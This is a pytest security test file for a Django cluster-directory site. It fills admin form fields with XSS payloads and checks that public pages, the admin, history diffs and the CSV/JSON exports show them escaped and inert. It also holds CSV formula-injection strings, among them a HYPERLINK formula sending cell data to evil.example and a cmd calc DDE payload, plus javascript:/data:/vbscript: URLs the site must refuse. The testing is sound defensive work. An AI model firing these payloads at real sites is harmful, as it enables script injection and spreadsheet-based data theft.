"""Markup saved by staff stays text: on every public page, in the exports, in the admin.

A publisher posts the real admin change forms with script payloads in every text
field (both languages, inlines included). The pages are then parsed as a browser
would: no element may carry an event handler, no script may run, no link may use
`javascript:`, and the payload must show, escaped, as the text it is.
"""

import csv
import io
import json
import re
from html.parser import HTMLParser
from http import HTTPStatus
from urllib.parse import urlencode

import pytest
from django import forms
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.test import RequestFactory
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape
from phonenumber_field.formfields import PhoneNumberField as PhoneNumberFormField

from clusters.models import Cluster, Page, Report
from cms import revisions
from contacts.models import TeamMember
from tests.admin_forms import form_values
from tests.factories import (
    make_cluster,
    make_coordinator,
    make_highland,
    make_item,
    make_organisation,
    make_page,
    make_project,
    make_report,
    make_snapshot,
    make_statement,
    make_team_member,
)

pytestmark = pytest.mark.django_db

PAYLOAD = (
    "<script>alert(1)</script>\"><img src=x onerror=alert(1)>'><svg onload=alert(1)>"
)
SHORT_PAYLOAD = '"><svg onload=alert(1)>'  # for fields shorter than PAYLOAD
ESCAPED = escape(PAYLOAD)
RAW_FRAGMENTS = ["<script>alert", "<img src=x", "<svg onload", "</script><"]
# Script elements that hold data, never code.
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data"}


class _Inertness(HTMLParser):
    """Collects what in a page could run: handlers, scripts, script URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._data_script: str | None = None

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and re.match(
                r"\s*(javascript|vbscript|data):", value or "", re.IGNORECASE
            ):
                if not (tag == "img" and value.startswith("data:image/")):
                    self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            attributes = dict(attrs)
            # The admin's editor's import map (cms/rich_text.py): JSON, allowed
            # by the response's nonce alone.
            is_import_map = attributes.get("type") == "importmap" and attributes.get(
                "nonce"
            )
            if attributes.get("type") in DATA_SCRIPT_TYPES or is_import_map:
                self._data_script = ""
            elif not attributes.get("src"):
                self.problems.append("<script> without src")
        if tag in {"iframe", "object", "embed"} or (
            tag == "img" and dict(attrs).get("src") == "x"
        ):
            self.problems.append(f"<{tag}>")

    def handle_data(self, data):
        if self._data_script is not None:
            self._data_script += data

    def handle_endtag(self, tag):
        if tag == "script" and self._data_script is not None:
            try:
                json.loads(self._data_script)
            except ValueError:
                self.problems.append("a data script that is not JSON")
            self._data_script = None


def assert_inert(html: str, where: str) -> None:
    parser = _Inertness()
    parser.feed(html)
    parser.close()
    assert parser.problems == [], where
    for fragment in RAW_FRAGMENTS:
        assert fragment not in html, f"{where}: raw {fragment!r}"


# Saving payloads through the admin.


def is_text_field(field: forms.Field) -> bool:
    return (
        isinstance(field, forms.CharField)
        and not isinstance(
            field,
            # A phone field refuses anything but a phone number (test_contacts_phones).
            forms.SlugField
            | forms.URLField
            | forms.EmailField
            | forms.RegexField
            | PhoneNumberFormField,
        )
        and not field.disabled
        and not field.widget.is_hidden
    )


def payload_for(field: forms.Field) -> str:
    if field.max_length is not None and field.max_length < len(PAYLOAD):
        return SHORT_PAYLOAD
    return PAYLOAD


def text_fields(user, obj) -> dict[str, str]:
    """The change form's text fields (inlines' without their prefix) and payloads."""
    model_admin = admin.site._registry[type(obj)]
    request = RequestFactory().get("/")
    request.user = user
    form = model_admin.get_form(request, obj)()
    fields = {
        name: payload_for(field)
        for name, field in form.fields.items()
        if is_text_field(field)
    }
    for formset, _inline in model_admin.get_formsets_with_inlines(request, obj):
        inline_form = formset(instance=obj).empty_form
        for name, field in inline_form.fields.items():
            if is_text_field(field):
                fields[name] = payload_for(field)
    return fields


def save_through_admin(client, user, obj) -> set[str]:
    """Post `obj`'s admin change form with a payload in every text field.

    Returns the names of the fields that were set, inline ones with their prefix.
    """
    opts = obj._meta
    url = reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[obj.pk])
    data = form_values(client.get(url).content.decode())
    payloads = text_fields(user, obj)
    changed = set()
    for name in data:
        field = re.sub(r"^.+-\d+-", "", name)
        if field in payloads:
            data[name] = [payloads[field]]
            changed.add(name)
    response = client.post(url, data)
    assert response.status_code == HTTPStatus.FOUND, (
        opts.model_name,
        re.findall(
            r'class="errorlist[^"]*"[^>]*>(.*?)</ul>', response.content.decode()
        ),
    )
    return changed


@pytest.fixture
def hostile_content(client, publisher, settings):
    """Every kind of record, its text fields filled through the admin with payloads."""
    settings.CACHES = {
        "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}
    }
    client.force_login(publisher)
    highland = make_highland()
    coordinator = make_coordinator()
    cluster = make_cluster(
        highlands=[highland],
        coordinators=[coordinator],
        website="https://example.org/",
    )
    make_snapshot(cluster, year=2023, members=10, enterprises=5, source_pl="GUS")
    make_snapshot(cluster, year=2024, members=12, enterprises=6, source_en="GUS")
    make_item(cluster)
    make_item(cluster, kind="service")
    make_project(cluster)
    organisation = make_organisation()
    cluster.member_organisations.add(organisation)
    make_cluster(parent=cluster, highlands=[highland])  # a segment names its parent
    about = make_page(key="about-clusters")
    introduction = make_page(key="lublin-economic-highlands")
    report = make_report()
    member = make_team_member(email="klastry@lublin.eu")
    statement = make_statement(contact_team=member.team)
    records = [
        cluster,
        highland,
        coordinator,
        organisation,
        about,
        introduction,
        report,
        member.team.unit,
        member.team,  # its members too, in the team's form
        statement,
    ]
    changed = {
        type(record).__name__: save_through_admin(client, publisher, record)
        for record in records
    }
    client.logout()
    return {"cluster": Cluster.objects.get(pk=cluster.pk), "changed": changed}


def test_every_text_field_of_a_cluster_and_its_inlines_takes_a_payload(
    hostile_content,
):
    changed = hostile_content["changed"]["Cluster"]
    for name in (
        "name_pl",
        "name_en",
        "other_names_pl",
        "other_names_en",
        "characteristics_pl",
        "characteristics_en",
        "membership_conditions_pl",
        "membership_conditions_en",
    ):
        assert name in changed
    inline_fields = {re.sub(r"^.+-\d+-", "", name) for name in changed if "-" in name}
    assert {"source_pl", "source_en", "text_pl", "text_en"} <= inline_fields
    assert {"title_pl", "title_en", "description_pl", "description_en"} <= inline_fields
    cluster = hostile_content["cluster"]
    assert cluster.name_en == PAYLOAD
    # A formatted text keeps the payload's text, not its elements (cms/rich_text.py).
    assert cluster.characteristics_pl == "<p>\"&gt;'&gt;</p>"
    assert {item.text_en for item in cluster.items.all()} == {PAYLOAD}


def public_addresses(cluster: Cluster) -> list[str]:
    highland = cluster.highlands.get()
    addresses = []
    for language in ("pl", "en"):
        with translation.override(language):
            addresses += [
                reverse("home"),
                reverse("clusters:list"),
                reverse("clusters:list") + "?" + urlencode({"q": PAYLOAD[:60]}),
                cluster.get_absolute_url(),
                cluster.segments.get().get_absolute_url(),
                reverse("ecosystems:list"),
                highland.get_absolute_url(),
                reverse("clusters:about"),
                reverse("contacts:team"),
                reverse("contacts:accessibility"),
                reverse("clusters:list") + "%3Cscript%3Ealert(1)%3C/script%3E/",
            ]
    return addresses


def test_payloads_render_inert_and_escaped_on_every_public_page(
    client, hostile_content
):
    cluster = hostile_content["cluster"]
    for address in public_addresses(cluster):
        response = client.get(address)
        assert response.status_code in (HTTPStatus.OK, HTTPStatus.NOT_FOUND), address
        assert_inert(response.content.decode(), address)
    # The payloads are shown, as text, on the pages that show the records.
    for address in public_addresses(cluster)[3:10]:
        content = client.get(address).content.decode()
        assert ESCAPED in content or escape(SHORT_PAYLOAD) in content, address
    # On the cluster page: name, other names, characteristics, list items, project,
    # coordinator, Highland, member organisation, each of them escaped.
    with translation.override("en"):
        content = client.get(cluster.get_absolute_url()).content.decode()
    assert content.count(ESCAPED) >= 6


def csv_rows(client) -> list[dict]:
    response = client.get(reverse("open_data:clusters_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def test_the_exports_keep_the_payload_as_data(client, hostile_content):
    response = client.get(reverse("open_data:clusters_json"))
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    records = {c["key"]: c for c in json.loads(response.getvalue())["clusters"]}
    record = records[hostile_content["cluster"].key]
    assert record["name"] == {"pl": PAYLOAD, "en": PAYLOAD}
    assert record["coordinators"][0]["name"]["pl"] == PAYLOAD
    assert record["history"][0]["source"]["pl"] == PAYLOAD
    highlands = json.loads(client.get(reverse("open_data:highlands_json")).content)
    assert highlands["highlands"][0]["summary"]["en"] == PAYLOAD
    [row] = [r for r in csv_rows(client) if r["key"] == record["key"]]
    assert row["name_pl"] == row["name_en"] == PAYLOAD
    assert row["coordinators_en"] == PAYLOAD


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, name):
    make_cluster(key="formula", name_pl=name, name_en="Safe name")
    make_cluster(key="plain", name_pl="Klaster = 1", name_en="")
    rows = {row["key"]: row for row in csv_rows(client)}
    assert rows["formula"]["name_pl"] == "'" + name
    assert rows["formula"]["name_en"] == "Safe name"
    assert rows["plain"]["name_pl"] == "Klaster = 1"
    json_records = json.loads(client.get(reverse("open_data:clusters_json")).getvalue())
    assert {c["name"]["pl"] for c in json_records["clusters"]} == {name, "Klaster = 1"}


def admin_addresses(cluster: Cluster) -> list[str]:
    addresses = [reverse("admin:index")]
    records = [
        cluster,
        cluster.highlands.get(),
        Page.objects.get(key="about-clusters"),
        TeamMember.objects.get().team,
        Report.objects.get(),
    ]
    for record in records:
        opts = record._meta
        name = f"admin:{opts.app_label}_{opts.model_name}"
        addresses += [
            reverse(f"{name}_changelist"),
            reverse(f"{name}_change", args=[record.pk]),
            reverse(f"{name}_history", args=[record.pk]),
        ]
        if revisions.is_revisioned(type(record)):
            addresses += [
                reverse(f"{name}_revisions", args=[record.pk]),
                reverse(f"{name}_revisions_compare", args=[record.pk]),
            ]
    return addresses


def test_the_admin_shows_the_payloads_escaped(client, publisher, hostile_content):
    client.force_login(publisher)
    for address in admin_addresses(hostile_content["cluster"]):
        response = client.get(address)
        assert response.status_code == HTTPStatus.OK, address
        content = response.content.decode()
        assert_inert(content, address)
        assert ESCAPED in content or escape(SHORT_PAYLOAD) in content, address


def test_the_history_shows_a_payload_in_the_unchanged_words_of_a_diff_escaped(
    client, publisher
):
    # One word changes: the payload stays in an unchanged run of the word diff,
    # not in a rewritten text (cms/history.py).
    cluster = make_cluster(characteristics_en=f"Opening words. {PAYLOAD} Old ending.")
    cluster.characteristics_en = f"Opening words. {PAYLOAD} New ending."
    cluster.save()
    client.force_login(publisher)
    address = reverse("admin:clusters_cluster_history", args=[cluster.pk])
    content = client.get(address).content.decode()
    assert "<del>Old</del> <ins>New</ins>" in content
    assert_inert(content, address)
    assert f"Opening words. {ESCAPED}" in content


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ],
)
def test_website_addresses_refuse_script_urls(client, publisher, url):
    cluster = make_cluster(website="https://example.org/")
    for model, name in ((Cluster, "website"), (Report, "url")):
        with pytest.raises(ValidationError):
            model._meta.get_field(name).clean(url, None)
    client.force_login(publisher)
    change = reverse("admin:clusters_cluster_change", args=[cluster.pk])
    data = form_values(client.get(change).content.decode())
    data["website"] = [url]
    response = client.post(change, data)
    assert response.status_code == HTTPStatus.OK  # the form again, with the error
    cluster.refresh_from_db()
    assert cluster.website == "https://example.org/"
